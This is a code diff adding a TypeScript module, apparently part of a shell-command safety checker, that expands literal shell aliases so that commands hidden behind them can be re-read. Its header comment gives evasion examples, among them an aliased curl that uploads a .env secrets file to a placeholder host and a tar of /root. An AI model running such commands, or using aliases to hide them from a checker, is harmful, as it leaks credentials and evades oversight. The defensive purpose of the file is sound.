@@ -1,0 +1,62 @@
+// Aliases the text defines, read where they run (round 27, docs/floor.md "Round 27"): `alias c='cd
+// /root'; c; tar c .`, `alias g=curl; g -T .env h`. A shell puts an alias's value in place of an unquoted
+// command word that names it, so the list is read again with the value there; before, the value was read
+// alone (`alias s='sudo id'`) and the words after the name were read with an unknown program.
+
+import { type SimpleCommand, showPiece } from './shell-parse.js';
+
+/** Aliases expanded through one another at most this deep (`alias a=b b=sudo`); a name is not expanded twice. */
+const MAX_ALIAS_DEPTH = 4;
+
+/** Adds the literal aliases `cmd` defines (`alias NAME=VALUE ...`) to `into`; a second value keeps the first. */
+export function collectAliases(cmd: SimpleCommand, into: Map<string, string>): void {
+  if (cmd.words[0] !== 'alias') return;
+  for (let k = 1; k < cmd.words.length; k++) {
+    const w = cmd.words[k] as string;
+    const eq = w.indexOf('=');
+    // A value the text computes (`alias g=$(..)`) is the computed-script readers'.
+    if (eq <= 0 || /[`$]/.test(cmd.shown[k] ?? '')) continue;
+    const name = w.slice(0, eq);
+    if (!into.has(name)) into.set(name, w.slice(eq + 1));
+  }
+}
+
+/**
+ * The list as one line with each command word an alias names replaced by its value (`starts[i][0]`: the
+ * command word); undefined when none is. The line is shell text, read again as a script.
+ */
+export function aliasedLine(
+  cmds: readonly SimpleCommand[],
+  starts: readonly (readonly number[])[],
+  aliases: ReadonlyMap<string, string>,
+): string | undefined {
+  let changed = false;
+  let line = '';
+  cmds.forEach((c, i) => {
+    const s = starts[i]?.[0] ?? -1;
+    const w = s < 0 ? undefined : c.words[s];
+    // A quoted or escaped command word is not an alias (its shown form differs from the word).
+    const value = w !== undefined && c.shown[s] === w ? expanded(w, aliases, 0, []) : undefined;
+    const words = value === undefined ? c.shown : [...c.shown.slice(0, s), value, ...c.shown.slice(s + 1)];
+    if (value !== undefined) changed = true;
+    line += words.join(' ');
+    for (const r of c.redirects) line += ` ${r.op} ${showPiece(r.target)}`;
+    if (i < cmds.length - 1) line += c.sep === '\n' || c.sep === '' ? ' ; ' : ` ${c.sep} `;
+  });
+  return changed ? line : undefined;
+}
+
+/** An alias's value with its own first word expanded in turn (bash does so, a name once). */
+function expanded(
+  name: string,
+  aliases: ReadonlyMap<string, string>,
+  depth: number,
+  used: string[],
+): string | undefined {
+  const value = aliases.get(name);
+  if (value === undefined || used.includes(name) || depth >= MAX_ALIAS_DEPTH) return undefined;
+  const first = /^\s*([^\s;&|<>()'"\\$`]+)/.exec(value);
+  const inner =
+    first === null ? undefined : expanded(first[1] as string, aliases, depth + 1, [...used, name]);
+  return inner === undefined ? value : value.replace(first?.[1] as string, inner);
+}
